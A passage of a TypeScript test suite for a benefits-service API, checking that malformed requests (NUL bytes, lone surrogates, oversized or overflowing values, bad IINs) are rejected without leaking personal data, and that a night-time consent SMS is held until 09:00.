      'qr_token_invalid',
    ],
    ['unknown voucher', 'POST', '/v1/me/vouchers/fv~fam-A~2026-03~9/activate', {}, 404, 'voucher_not_found'],
    ['voucher id we never issue', 'POST', '/v1/me/vouchers/nonsense/activate', {}, 404, 'voucher_not_found'],
    ['huge body', 'POST', '/v1/me/feedback', { body: { program: 'school-meals', kind: 'complaint', text: 'ы'.repeat(100_000) } }, 413, 'payload_too_large'],
    [
      'lone surrogate in text',
      'POST',
      '/v1/me/feedback',
      { raw: '{"program":"school-meals","voucherId":"mv-x","kind":"complaint","text":"\\ud800 bad"}', contentType: 'application/json' },
      400,
      'validation_failed',
    ],
    [
      'control characters in text',
      'POST',
      '/v1/me/feedback',
      { body: { program: 'school-meals', voucherId: 'mv-x', kind: 'complaint', text: 'a\u0000b' } },
      400,
      'validation_failed',
    ],
    [
      'rating out of range',
      'POST',
      '/v1/me/feedback',
      { body: { program: 'school-meals', voucherId: 'mv-x', kind: 'rating', rating: 6 } },
      400,
      'validation_failed',
    ],
    [
      'IIN of 11 digits in a list',
      'POST',
      '/v1/lists/food-vouchers',
      {
        body: {
          listId: 'bad-list',
          month: '2026-03',
          rows: [{ familyId: 'f', city: 'Kokshetau', aspOnDate: '2026-02-28', head: { iin: '90010130012' }, members: [{ iin: '90010130012' }] }],
        },
      },
      400,
      'validation_failed',
    ],
    [
      'IIN with letters in a batch',
      'POST',
      '/v1/canteen/batches',
      { body: { batchId: 'b', records: [{ seq: 1, cardIin: '9001013001ab', scannedAt: '2026-04-06T06:00:00Z' }] } },
      400,
      'validation_failed',
    ],
    [
      'both token and card',
      'POST',
      '/v1/canteen/batches',
      { body: { batchId: 'b', records: [{ seq: 1, token: 't', cardIin: '900101300123', scannedAt: '2026-04-06T06:00:00Z' }] } },
      400,
      'validation_failed',
    ],
    [
      'instant without zone',
      'POST',
      '/v1/sms/inbound',
      { body: { phone: '+77010000001', text: '21*1', receivedAt: '2026-03-05 05:00' } },
      400,
      'validation_failed',
    ],
    [
      'unknown field',
      'POST',
      '/v1/sms/inbound',
      { body: { phone: '+77010000001', text: '21*1', receivedAt: '2026-03-05T05:00:00Z', iin: '900101300123' } },
      400,
      'validation_failed',
    ],
    ['bad month', 'GET', '/v1/schools/school-1/tabel/2026-13', {}, 400, 'validation_failed'],
    // A NUL character cannot be stored by Postgres: every field and query parameter refuses it by name.
    [
      'NUL in a list row’s city',
      'POST',
      '/v1/lists/food-vouchers',
      { body: { listId: 'nul-1', month: '2026-03', rows: [foodRow('Kok\u0000shetau')] } },
      400,
      'validation_failed',
      'body.rows.0.city',
    ],
    [
      'NUL in a name',
      'POST',
      '/v1/lists/food-vouchers',
      { body: { listId: 'nul-2', month: '2026-03', rows: [{ ...foodRow('Kokshetau'), head: { iin: head, fullName: 'Ай\u0000' } }] } },
      400,
      'validation_failed',
      'body.rows.0.head.fullName',
    ],
    [
      'NUL in a query parameter',
      'POST',
      `/v1/lists/school-meals?${MEALS_CSV_QUERY}&region=Ak%00mola`,
      { raw: `${MEALS_CSV_HEADER}\nfam-1,${pupil},,3,asp_family,true\n`, contentType: 'text/csv' },
      400,
      'validation_failed',
      'query.region',
    ],
    [
      'NUL in a CSV cell',
      'POST',
      `/v1/lists/school-meals?${MEALS_CSV_QUERY}&region=Akmola`,
      { raw: `${MEALS_CSV_HEADER},reconciliationOk,reconciliationReason\nfam-1,${pupil},,3,asp_family,true,false,no\u0000pe\n`, contentType: 'text/csv' },
      400,
      'validation_failed',
      'body.rows.0.reconciliation.reason',
    ],
    ['NUL in a query parameter of a read', 'GET', '/v1/ministry/outcomes?city=Pav%00lodar', {}, 400, 'validation_failed', 'query.city'],
    ['NUL in a QR token at the till', 'POST', '/v1/shop/balance', { body: { token: 'abc\u0000def' } }, 400, 'validation_failed', 'body.token'],
    [
      'NUL in a QR token at the canteen',
      'POST',
      '/v1/canteen/batches',
      { body: { batchId: 'b', records: [{ seq: 1, token: 'a\u0000b', scannedAt: '2026-04-06T06:00:00Z' }] } },
      400,
      'validation_failed',
      'body.records.0.token',
    ],
    [
      'NUL in a delivery report',
      'POST',
      '/v1/sms/outbound/m-1/delivery',
      { body: { status: 'failed', at: '2026-03-05T04:00:05Z', reason: 'no\u0000route', gatewayRef: 'g\u0000' } },
      400,
      'validation_failed',
      'body.reason',
    ],
    [
      'lone surrogate in a city',
      'POST',
      '/v1/lists/food-vouchers',
      {
        raw: `{"listId":"nul-3","month":"2026-03","rows":[{"familyId":"f","city":"\\udc00","aspOnDate":"2026-02-28","head":{"iin":"${head}"},"members":[{"iin":"${head}"}]}]}`,
        contentType: 'application/json',
      },
      400,
      'validation_failed',
      'body.rows.0.city',
    ],
    // Two lines at 5e15 tiyn would sum past 2^53: unit prices are bounded so that no basket can.
    [
      'basket summing past safe integers',
      'POST',
      '/v1/shop/holds',
      { body: { token: 't', items: [basketLine(5e15), basketLine(5e15)] }, idempotencyKey: 'bad-sum' },
      400,
      'validation_failed',
      'body.items.0.unitPriceTiyn',
    ],
    [
      'CSV with a duplicated column',
      'POST',
      '/v1/lists/food-vouchers?listId=dup-1&month=2026-03',
      { raw: `familyId,city,aspOnDate,memberRole,iin,city\nf,Kokshetau,2026-02-28,head,${head},Almaty\n`, contentType: 'text/csv' },
      400,
      'validation_failed',
      'body.city',
    ],
  ];
  const roleFor = (path: string) =>
    path.startsWith('/v1/shop')
      ? shop
      : path.startsWith('/v1/me')
        ? citizenOf('fam-A', head)
        : path.startsWith('/v1/lists/school-meals')
          ? nobd
          : path.startsWith('/v1/lists')
            ? sdu
            : path.startsWith('/v1/canteen')
              ? device
              : path.startsWith('/v1/sms')
                ? gateway
                : path.startsWith('/v1/ministry')
                  ? ministry
                  : pedagogue;

  it.each(cases)('%s: %s %s', async (_name, method, path, options, status, code, field) => {
    const before = await t.eventCount();
    const answer = await t.call(method, path, { token: await t.token(roleFor(path)), ...options });
    expect(answer.status).toBe(status);
    expect(answer.contentType).toMatch(/^application\/problem\+json/);
    expect(answer.body.code).toBe(code);
    if (field) expect(answer.body.errors?.map((e: { path: string }) => e.path)).toContain(field);
    expect(answer.text).not.toMatch(/900101300123|90010130012|\bat .*\.ts/);
    expect(await t.eventCount()).toBe(before);
  });

  it('logged no personal data during the whole file', () => {
    for (const line of t.logged) expect(line).not.toMatch(new RegExp(`${head}|${mother}|${pupil}|7010000001`));
  });
});

describe('the consent SMS as the gateway gets it: the annex text with the names, at daytime only', () => {
  const pupil9 = makeIin('2013-05-05', 'male', 31);
  const mother9 = makeIin('1988-07-07', 'female', 32);
  const PHONE9 = '+77010000031';

  it('holds a start SMS asked for at 22:00 until 09:00, then offers it with the mother’s and the child’s names (seed 000 annex)', async () => {
    await t.system.phones.load([[mother9, PHONE9]]);
    t.clock.set('2026-04-07T17:00:00.000Z'); // Tuesday 22:00 in Almaty
    const list = await t.call('POST', '/v1/lists/school-meals', {
      token: await t.token(nobd),
      body: {
        listId: 'nobd-school-9-2026-04',
        month: '2026-04',
        schoolYear: '2025-2026',
        schoolId: 'school-9',
        region: 'akmola',
        rows: [
          {
            familyId: 'fam-9',
            pupil: { iin: pupil9, fullName: 'Сейтов Арман' },
            schoolId: 'school-9',
            grade: 7,
            category: 'asp_family',
            approvedByHead: true,
            representatives: [{ iin: mother9, fullName: 'Сейтова Айгуль Маратовна', role: 'mother' }],
          },
        ],
      },
    });
    expect(list.body).toMatchObject({ accepted: 1 });
    await t.system.scheduler.tick();
    await t.settle();
    const night = await t.call('GET', '/v1/sms/outbound?limit=500', { token: await t.token(gateway) });
    expect(night.body.messages.filter((m: { phone: string }) => m.phone.endsWith('7010000031'))).toEqual([]);
    t.clock.set('2026-04-08T04:00:00.000Z'); // Wednesday 09:00
    await t.system.scheduler.tick();
    await t.settle();
    const morning = await t.call('GET', '/v1/sms/outbound?limit=500', { token: await t.token(gateway) });
    const sms = morning.body.messages.find((m: { phone: string }) => m.phone.endsWith('7010000031'));
    expect(sms).toMatchObject({ kind: 'consent_request', language: 'ru' });
    expect(sms.text.startsWith('Уважаемый (ая) Сейтова Айгуль Маратовна!\nВашему ребенку Сейтов Арман полагается бесплатное питание')).toBe(true);
    expect(sms.text).toContain('Call-центр по номеру 1414');
    // The names live in the vault only: the event keeps the template.
    const events = await t.system.store.readStream(sms.caseId);
    expect(JSON.stringify(events.map((e) => e.data))).not.toContain('Сейтова');
  });
});
